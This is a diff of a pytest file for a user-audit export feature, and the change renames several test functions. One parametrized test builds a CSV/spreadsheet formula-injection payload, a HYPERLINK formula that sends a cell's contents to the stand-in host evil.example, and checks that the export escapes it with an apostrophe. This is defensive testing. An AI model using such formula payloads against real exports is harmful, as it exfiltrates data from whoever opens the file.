@@ -100,7 +100,7 @@ def test_a_filter_that_cannot_be_understood_exports_nothing_and_leads_to_the_lis
 
 
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
-def test_what_begins_like_a_formula_begins_with_an_apostrophe(client: Client, start: str):
+def test_text_like_a_formula_gets_an_apostrophe(client: Client, start: str):
     text = f'{start}HYPERLINK("https://evil.example/?"&A1)'
     with acting_as(text):
         make_user("ada", state=State.INVITED).fsm.activate(description=text)
@@ -167,7 +167,7 @@ def test_postgresql_writes_the_file_in_one_statement_that_is_sent_on_as_it_comes
     assert len(queries) == 1
 
 
-def test_whoever_stops_reading_leaves_a_connection_that_works(client: Client):
+def test_a_reader_who_stops_leaves_a_connection_that_works(client: Client):
     for number in range(10):
         make_user(f"user{number}")
     pieces = export.pieces(UserStateAudit.objects.transitions().all())
